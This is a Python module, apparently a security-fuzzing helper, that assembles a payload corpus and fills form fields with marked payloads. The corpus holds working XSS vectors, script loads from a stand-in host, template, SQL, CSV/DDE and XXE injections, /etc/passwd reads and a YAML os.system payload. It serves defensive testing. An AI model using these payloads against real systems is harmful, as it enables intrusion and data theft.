"""Words that would be programs wherever somebody forgets that they are words."""

from __future__ import annotations

from dataclasses import dataclass, field

AWAY = "http://away.example"
# Tags that run something by an attribute, as browsers have had them over the years.
BY_ATTRIBUTE = (
    "img src=x onerror", "svg onload", "body onload", "input autofocus onfocus", "details open ontoggle",
    "video src=x onerror", "audio src=x onerror", "iframe onload", "object data=x onerror", "embed src=x onerror",
    "marquee onstart", "select autofocus onfocus", "textarea autofocus onfocus", "a href=# onclick",
    "div onmouseover", "style onload", "link rel=stylesheet href=x onerror", "script src=x onerror",
    "form onsubmit", "svg><animate onbegin", "svg><set onbegin", "isindex type=image src=x onerror",
    "button popovertarget=x onbeforetoggle", "dialog open onclose", "xss id=x tabindex=1 onfocusin",
    "p contenteditable onbeforeinput", "body onhashchange", "body onpageshow", "svg><image href=x onerror",
    "picture><source srcset=x><img onerror", "table background=x onerror", "meter onmouseover",
    "div style=animation-name:x onanimationstart", "div onpointerrawupdate", "body onmessage",
)  # fmt: skip
# Addresses that are programs, and where addresses stand.
ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\u200bscript:alert(1)",
    "javascript&colon;alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
    "data:image/svg+xml,<svg onload=alert(1)>", "//away.example/x.js", "javascript:/*--></title>*/alert(1)//",
)  # fmt: skip
HOLDERS = (
    "<a href='{}'>x</a>", "<iframe src='{}'></iframe>", "<form action='{}'><button>x</button></form>",
    "<svg><a xlink:href='{}'><text>x</text></a></svg>", "<img src='{}'>",
)  # fmt: skip
SCRIPTS = (
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script/x>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    f"<script src={AWAY}/x.js></script>", f"\"><script src='{AWAY}/x.js'></script>", "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</script><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "</option></select><script>alert(1)</script>", "]]><script>alert(1)</script>",
    "--><script>alert(1)</script>", "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>",
    "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) /></svg>", "<math><mtext><script>alert(1)</script></mtext></math>",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<table><td><script>alert(1)</script>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<script type=module>import 'http://away.example/x.js'</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)  # fmt: skip
STYLES = (
    f"<style>@import '{AWAY}/x.css'</style>", f"<link rel=stylesheet href={AWAY}/x.css>", f"<p style=\"background:url('{AWAY}/x.png')\">x</p>",
    f"<base href={AWAY}/>", f"<meta http-equiv=refresh content='0;url={AWAY}'>", '<meta http-equiv=Content-Security-Policy content="script-src *">',
    f"red;background:url({AWAY}/x.png)", "expression(alert(1))", f"}}</style><img src={AWAY}/x.png>", f"<link rel=prefetch href={AWAY}/x>",
    f"<img srcset='{AWAY}/x.png 1x'>", f"<video poster={AWAY}/x.png>", f"<svg><use href={AWAY}/x.svg#x /></svg>",
    f"<svg><filter><feImage href={AWAY}/x.png /></filter></svg>", f"<object data={AWAY}/x.swf></object>", f"<img src={AWAY}/x.png>",
)  # fmt: skip
# What breaks out of strings, templates, formats of text and other languages.
OTHERS = (
    "'-alert(1)-'", '"-alert(1)-"', "\\'-alert(1)//", "';alert(1)//", "`-alert(1)-`", "${alert(1)}", "#{alert(1)}",
    "{{constructor.constructor('alert(1)')()}}", "{{7*7}}", "{% raw %}<b>{% endraw %}", "<%= 7*7 %>", "{}{0}{name}%s%d", "%(x)s %n",
    '" onmouseover=alert(1) x="', "' onfocus=alert(1) autofocus '", "x` `onerror=alert(1)", "/onerror=alert(1)/",
    "[x](javascript:alert(1))", f"![x]({AWAY}/x.png)", "[x]: javascript:alert(1)", "<javascript:alert(1)>", "```\n<script>alert(1)</script>",
    "| a | b |", "# <img src=x onerror=alert(1)>", "> ---", 'click A "javascript:alert(1)"', "end\nclick A call alert()",
    'A-->B["<img src=x onerror=alert(1)>"]', '%%{init: {"securityLevel": "loose"}}%%', "subgraph x", '"]; A --> B',
    '=HYPERLINK("http://away.example","x")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "=1+1", "\t=1+1",
    '#read("/etc/passwd")', '#include "x.typ"', '#eval("1")', "$ x $ <label> @ref", "\\input{/etc/passwd}", "<?php phpinfo() ?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "&xxe;", "<?xml version='1.0'?>", "<!--#exec cmd='ls' -->", "'; drop table edits; --", '" or 1=1 --', "x'); select 1; --", "../../../../etc/passwd",
    "!!python/object/apply:os.system ['x']", "&a [*a]", "<<: *x", "__proto__", "constructor", "\u202egnp.exe", "\u2028alert(1)",
)  # fmt: skip
PAYLOADS = tuple(
    dict.fromkeys(
        [
            *SCRIPTS,
            *(f"<{one}=alert(1)>" for one in BY_ATTRIBUTE),
            *(HOLDERS[n % len(HOLDERS)].format(one) for n, one in enumerate(ADDRESSES)),
            *ADDRESSES[:4],
            *STYLES,
            *OTHERS,
        ]
    )
)
# One of each kind, tried in every run.
FEW = (
    SCRIPTS[0], "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", SCRIPTS[5], "javascript:alert(1)", "'-alert(1)-'", "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}", "</title><script>alert(1)</script>", "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", SCRIPTS[22], "<a href='javascript:alert(1)'>x</a>", STYLES[0], "]]><script>alert(1)</script>",
    '" onmouseover=alert(1) x="', "[x](javascript:alert(1))", '=HYPERLINK("http://away.example","x")', STYLES[15], "&lt;script&gt;alert(1)&lt;/script&gt;",
)  # fmt: skip


@dataclass
class Words:
    """Payloads for fields, others for each, and what each field was given.

    Attributes:
        payloads: What there is to deal out.
        turn: Which one comes next.
        given: Words by the name of the field they were put into.
    """

    payloads: tuple[str, ...]
    turn: int = 0
    given: dict[str, str] = field(default_factory=dict)

    def __call__(self, name: str, most: int = 150) -> str:
        """Words for a field: as many payloads as fit, at least one, and letters by which they are known."""
        mark, text = f"w{len(self.given)}w", ""
        for turn in range(self.turn, self.turn + len(self.payloads)):
            one = " ".join(self.payloads[turn % len(self.payloads)].split())
            if len(text) + len(one) + len(mark) + 1 <= most:
                text += f"{one} "
                self.turn = turn + 1
            elif text:
                break
        assert text, f"no payload fits into {name}"
        self.given[name] = text + mark
        return self.given[name]
